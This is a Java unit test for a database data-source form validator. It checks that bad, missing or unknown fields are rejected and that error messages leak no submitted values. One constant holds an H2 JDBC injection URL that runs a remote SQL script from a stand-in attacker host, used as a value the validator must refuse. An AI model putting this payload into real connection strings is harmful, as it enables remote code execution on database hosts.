package io.gazetteer.api.sources.registration.forms;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.gazetteer.api.sources.registration.CrawlOptionsChange;
import io.gazetteer.api.sources.registration.DataSourceChange;
import io.gazetteer.api.testing.Credentials;
import io.gazetteer.api.web.Bodies;
import io.gazetteer.api.web.JsonFields;
import io.gazetteer.api.web.Problem;
import io.gazetteer.api.web.ProblemCode;
import io.gazetteer.common.source.DatabaseKind;
import io.gazetteer.common.source.TlsSettings;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class DataSourceFormTest {
  /** To be refused wherever it stands. */
  private static final String URL = "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'";

  static Stream<Arguments> wrongValues() {
    return Stream.of(
            wrong("hostname", "a b", "", 7, true, Map.of(), URL, "h2:mem"),
            wrong("port", 0, 65_536, -1, "5432", 5432.5, 5e99, true, 1L << 40, URL),
            wrong(
                "db_name",
                "",
                "a\nb",
                "a\0",
                "x".repeat(64),
                "é".repeat(32),
                7,
                "\ud800",
                URL,
                "H2:mem:x"),
            wrong("username", "", "a\tb", "x".repeat(129), 7, "\udfff", URL, "JDBC:x"),
            wrong(
                "password", "", "x".repeat(1001), "********", "••••••", "●●●", "a\0b", 7, "\ud800"),
            wrong("db_type", "", "oracle9000", "postgres ", "h2", "H2", URL, "sqlite", 7))
        .flatMap(stream -> stream);
  }

  private static Stream<Arguments> wrong(String field, Object... values) {
    return Stream.of(values).map(value -> Arguments.of(field, value));
  }

  @ParameterizedTest
  @MethodSource("wrongValues")
  void namesTheWrongField(String field, Object value) {
    var body = Credentials.any();
    body.put(field, value);

    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);
  }

  @ParameterizedTest
  @ValueSource(strings = {"hostname", "port", "db_name", "username", "password", "db_type"})
  void namesAMissingFieldAndANull(String field) {
    var body = Credentials.any();
    body.put(field, null);
    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);

    body.remove(field);
    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc_url",
        "url",
        "driver",
        "properties",
        "id",
        "epoch",
        "role",
        "secret",
        "created_at",
        "Hostname",
        ""
      })
  void namesAnUnknownField(String field) {
    var body = Credentials.any();
    body.put(field, 1);

    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);
  }

  @Test
  void saysNothingOfTheValue() {
    var body = Credentials.any();
    body.put("hostname", "Canary host");
    body.put("password", "Canary\0");

    assertThat(Bodies.text(refused(Bodies.of(body)))).doesNotContain("Canary");
  }

  @Test
  void takesOddButRightValues() {
    var body = Credentials.any();
    body.put("db_name", " my \"db\" 🛒 'x' ");
    body.put("username", "domain\\user name");
    body.put("password", "*** not a mask");
    body.put("db_type", "mArIaDb");

    var registration = DataSourceForm.newDataSource(Bodies.of(body));

    assertThat(registration.dbName()).isEqualTo(" my \"db\" 🛒 'x' ");
    assertThat(registration.username()).isEqualTo("domain\\user name");
    assertThat(registration.password().reveal()).isEqualTo("*** not a mask");
    assertThat(registration.kind()).isEqualTo(DatabaseKind.MARIADB);
    assertThat(registration.toString()).doesNotContain("not a mask");
  }

  @Test
  void letsMySqlNamesBe64Characters() {
    var body = Credentials.any();
    body.put("db_type", "MySQL");
    body.put("db_name", "é".repeat(64));

    assertThat(DataSourceForm.newDataSource(Bodies.of(body)).dbName()).hasSize(64);
  }

  @Test
  void takesAnySubsetAsAChange() {
    var change =
        DataSourceForm.change(
            Bodies.of(Map.of("port", 1)), DatabaseKind.POSTGRESQL, TlsSettings.DEFAULTS);

    assertThat(change)
        .isEqualTo(
            new DataSourceChange(
                null, 1, null, null, null, TlsSettings.DEFAULTS, CrawlOptionsChange.NONE));
  }

  @ParameterizedTest
  @ValueSource(strings = {"db_type", "id", "epoch", "crawl"})
  void refusesToChangeAnythingElse(String field) {
    var problem =
        catchThrowableOfType(
            Problem.class,
            () ->
                DataSourceForm.change(
                    Bodies.of(Map.of(field, "MySQL")),
                    DatabaseKind.POSTGRESQL,
                    TlsSettings.DEFAULTS));

    assertThat(Bodies.wrongFields(problem)).containsExactly(field);
  }

  private static Problem refused(JsonFields fields) {
    var problem = catchThrowableOfType(Problem.class, () -> DataSourceForm.newDataSource(fields));
    assertThat(problem.code()).isEqualTo(ProblemCode.VALIDATION_FAILED);
    return problem;
  }
}
